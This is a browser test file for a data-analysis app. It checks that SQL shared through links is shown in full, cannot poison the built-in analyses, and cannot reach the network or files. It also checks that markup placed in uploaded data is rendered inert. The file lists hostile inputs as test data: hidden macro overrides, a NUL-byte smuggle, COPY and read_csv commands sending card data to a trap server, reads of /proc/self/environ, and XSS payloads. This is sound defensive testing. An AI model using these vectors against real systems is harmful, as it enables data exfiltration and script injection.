// What a hostile link or file can do, tried in the browser (issue #11). SQL from a link is shown whole
// before it runs and cannot change what the built-in analyses compute (finding 4); a NUL byte and setting
// pragmas are refused; at least 12 ways for SQL to reach the network or the disk reach nothing (the trap
// server records every request it gets); and markup in file names, column names, values, preset titles
// and rule names is shown as text, never run.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import {
  dropFiles,
  engineReady,
  gridText,
  launchBrowser,
  mapSample,
  openApp,
  runSql,
  startServer,
  startTrapServer,
} from './harness.mjs';

let server;
let browser;
let trap;

before(async () => {
  server = await startServer();
  browser = await launchBrowser();
  trap = await startTrapServer();
});

after(async () => {
  await browser?.close();
  await server?.close();
  await trap?.close();
});

/** A link's hash for a SQL preset, made with the app's own encoder (as anybody could). */
function sqlLink(page, sql, title = 'Handy query') {
  return page.evaluate(
    ([text, t]) => window.tenure.presetHash({ v: 1, analysis: 'sql', title: t, sql: text }),
    [sql, title],
  );
}

/** Opens a link in the page that is already open (the app follows hash changes). */
async function follow(page, hash) {
  await page.evaluate((h) => (location.hash = h), hash);
  await page.waitForSelector('[data-testid="link-sql-summary"]');
}

async function settled(page, id) {
  const status = `[data-testid="analysis-${id}"] [data-testid="analysis-status"]`;
  await page.waitForSelector(status, { timeout: 30_000 });
  await page.waitForFunction((sel) => !document.querySelector(sel)?.hasAttribute('data-running'), status);
}

async function runFromLink(page) {
  await page.click('[data-testid="run-sql"]');
  await page.waitForFunction(() => {
    const status = document.querySelector('[data-testid="sql-status"]');
    return status && !status.hasAttribute('data-running');
  });
}

const cohortGrid = '[data-testid="analysis-cohorts"] [data-testid="result-grid"]';

describe('SQL from a link', () => {
  it('is shown whole, and its poisons leave the built-in analyses alone', async () => {
    const app = await openApp(browser, server);
    const { page } = app;
    await mapSample(page, 'orders');
    await settled(page, 'cohorts');
    const before = await gridText(page, cohortGrid);
    assert.ok(before.rows.length > 3);

    // one harmless line, the rest below the fold (issue #11, finding 4)
    const poison = [
      'SELECT count(*) AS orders FROM orders;',
      '\n'.repeat(80),
      'CREATE OR REPLACE MACRO datediff(part, a, b) AS 0;',
      "CREATE OR REPLACE MACRO date_trunc(part, ts) AS DATE '2000-01-01';",
      "CREATE OR REPLACE MACRO tenure_period_start(grain, week_start, ts) AS DATE '1970-01-01';",
      'CREATE TEMP TABLE orders AS SELECT * FROM orders LIMIT 0;',
      "SET search_path = 'temp.main,memory.main';",
    ].join('\n');
    await follow(page, await sqlLink(page, poison));
    assert.match(await page.locator('[data-testid="link-sql-summary"]').innerText(), /6 statements/);
    const statements = page.locator('[data-testid="link-sql-statement"]');
    assert.equal(await statements.count(), 6);
    assert.equal(await page.locator('[data-testid="link-sql-statement"][data-changes]').count(), 5);
    const hidden = /(\d+) blank lines\s*CREATE OR REPLACE MACRO datediff/.exec(
      await statements.nth(1).innerText(),
    );
    assert.ok(
      hidden && Number(hidden[1]) >= 80,
      'the blank lines are counted, the statement after them shown',
    );
    await runFromLink(page);
    assert.equal(await page.locator('[data-testid="sql-error"]').count(), 0);
    // the poisons are real where the user's SQL runs...
    await runSql(
      page,
      "SELECT datediff('day', DATE '2024-01-01', DATE '2024-03-01') AS d, (SELECT count(*) FROM orders) AS n",
    );
    assert.deepEqual((await gridText(page)).rows[0], ['0', '0']);
    // ...and the analyses compute what they computed before
    await page.click('[data-testid="tab-analyses"]');
    await page.click('[data-testid="analysis-cohorts-tab"]');
    await page.selectOption('[data-testid="param-grain"]', 'quarter');
    await settled(page, 'cohorts');
    await page.selectOption('[data-testid="param-grain"]', 'month');
    await page.waitForFunction(
      (sel) => document.querySelectorAll(`${sel} .body [role="row"]`).length > 3,
      cohortGrid,
    );
    await settled(page, 'cohorts');
    assert.deepEqual(await gridText(page, cohortGrid), before);
    app.assertClean();
    await app.context.close();
  });

  it('refuses a NUL byte and pragmas that change settings, before anything runs', async () => {
    const app = await openApp(browser, server);
    const { page } = app;
    await engineReady(page);
    await follow(
      page,
      await sqlLink(page, "SELECT 'shown' AS x;\u0000 CREATE OR REPLACE MACRO datediff(a, b, c) AS 0"),
    );
    assert.match(await page.locator('[data-testid="link-sql-nul"]').innerText(), /NUL/);
    // what the NUL byte would hide is shown too
    assert.match(
      await page.locator('[data-testid="link-sql-after-nul"]').innerText(),
      /CREATE OR REPLACE MACRO datediff/,
    );
    await runFromLink(page);
    assert.match(await page.locator('[data-testid="sql-error"]').innerText(), /NUL byte/);

    await follow(page, await sqlLink(page, 'PRAGMA enable_profiling;\nSELECT 42 AS answer'));
    assert.equal(await page.locator('[data-testid="link-sql-statement"][data-refused="pragma"]').count(), 1);
    await runFromLink(page);
    assert.match(await page.locator('[data-testid="sql-error"]').innerText(), /PRAGMA enable_profiling/);
    await runSql(page, "SELECT current_setting('enable_profiling') AS profiling");
    assert.deepEqual((await gridText(page)).rows[0], ['NULL']);
    app.assertClean();
    await app.context.close();
  });

  it('reaches no server and no file, whichever way it tries (each from a link, run)', async () => {
    const app = await openApp(browser, server);
    const { page } = app;
    await engineReady(page);
    await dropFiles(page, [{ name: 'secret.csv', buffer: Buffer.from('card\n4111111111111111\n') }]);
    await page.waitForSelector('[data-testid="table-item"]:has-text("secret")');
    const t = trap.url;
    const vectors = [
      `SELECT * FROM read_csv('${t}a.csv')`,
      `SELECT * FROM read_csv_auto('${t}b.csv?data=4111111111111111')`,
      `SELECT * FROM '${t}c.csv'`,
      `SELECT * FROM read_parquet('${t}d.parquet')`,
      `SELECT * FROM read_json('${t}e.json')`,
      `SELECT * FROM read_text('${t}f.txt')`,
      `SELECT * FROM read_blob('${t}g')`,
      `SELECT * FROM sniff_csv('${t}h.csv')`,
      `SELECT * FROM glob('${t}*')`,
      `COPY secret TO '${t}i.csv'`,
      `COPY (SELECT * FROM secret) TO '${t}j.parquet' (FORMAT parquet)`,
      `EXPORT DATABASE '${t}k'`,
      `ATTACH '${t}l.duckdb' AS remote`,
      `INSTALL httpfs FROM '${t}m'; LOAD httpfs; SELECT * FROM read_csv('${t}n.csv')`,
      'LOAD httpfs',
      `SET enable_external_access = true; SELECT * FROM read_csv('${t}o.csv')`,
      `SET allowed_directories = ['/', '${t}']`,
      `RESET lock_configuration; SELECT * FROM read_csv('${t}p.csv')`,
      `CREATE MACRO steal(u) AS TABLE SELECT * FROM read_csv(u); SELECT * FROM steal('${t}q.csv?card=4111')`,
      `SET VARIABLE target = '${t}r.csv'; SELECT * FROM read_csv(getvariable('target'))`,
      "SELECT * FROM read_csv('/etc/hostname')",
      "SELECT * FROM read_text('/proc/self/environ')",
      "COPY secret TO 'opfs://stolen.csv'",
      "SELECT * FROM read_csv('opfs://stolen.csv')",
      `PRAGMA enable_profiling; SELECT * FROM read_csv('${t}s.csv')`,
    ];
    assert.ok(vectors.length >= 12);
    for (const sql of vectors) {
      await follow(page, await sqlLink(page, sql));
      await runFromLink(page);
      const error = page.locator('[data-testid="sql-error"]');
      assert.equal(await error.count(), 1, `no error for: ${sql}`);
      assert.match(
        await error.innerText(),
        /Permission|disabled|locked|not allowed|Extension|does not exist|refused|PRAGMA|Catalog|not found|No files/i,
        sql,
      );
    }
    await page.waitForTimeout(500);
    assert.deepEqual(trap.requests, []);
    app.assertClean();
    await app.context.close();
  });
});

describe('markup from outside', () => {
  it('is shown as text in file names, column names, values, preset titles and rule names', async () => {
    const app = await openApp(browser, server);
    const { page } = app;
    const dialogs = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await engineReady(page);
    const x = (n) => `<img src=x onerror="window.__xss=${n}">`;
    const csv = [
      `customer_id,ordered_at,amount,"country${x(1).replaceAll('"', '""')}","<script>window.__xss=2</script>"`,
      `C1,2024-01-02,10,"${x(3).replaceAll('"', '""')}",<b>bold</b>`,
      `C2,2024-02-03,20,"<svg onload=window.__xss=4>",<i>x</i>`,
      `C1,2024-03-05,30,"${x(3).replaceAll('"', '""')}",<u>u</u>`,
    ].join('\n');
    await dropFiles(page, [{ name: `${x(5)}.csv`, mimeType: 'text/csv', buffer: Buffer.from(csv) }]);
    await page.waitForSelector('[data-testid="table-panel"]');
    await page.click('[data-testid="tab-analyses"]');
    await page.click('[data-testid="apply-mapping"]');
    await page.waitForSelector('[data-testid="chart-cohortHeatmap"] svg', { timeout: 30_000 });
    // the segment column (its name and values) in the form and in a chart's labels
    await page.click('[data-testid="analysis-repeat-tab"]');
    await page.selectOption('[data-testid="param-segment"]', { index: 1 });
    await page.waitForSelector('[data-testid="chart-repeatBySegment"] svg');
    await runSql(page, 'SELECT * FROM orders');
    // a preset title and RFM rule names from a link
    const rules = `${x(6)}\t1\t5\t1\t5\t1\t5`;
    const hash = await page.evaluate(
      ([title, r]) => window.tenure.presetHash({ v: 1, analysis: 'rfm', title, params: { rules: r } }),
      [x(7), rules],
    );
    await page.evaluate((h) => (location.hash = h), hash);
    await page.waitForSelector('[data-testid="preset-banner"]');
    assert.match(await page.locator('[data-testid="preset-banner"]').innerText(), /<img src=x onerror/);
    await settled(page, 'rfm');
    await page.waitForTimeout(300);
    assert.equal(await page.evaluate(() => window.__xss), undefined);
    assert.equal(await page.locator('img[src="x"], svg[onload], script:not([src])').count(), 0);
    assert.deepEqual(dialogs, []);
    // shown, as text
    assert.ok((await page.locator('body').innerText()).includes('onerror="window.__xss=6"'));
    app.assertClean();
    await app.context.close();
  });
});
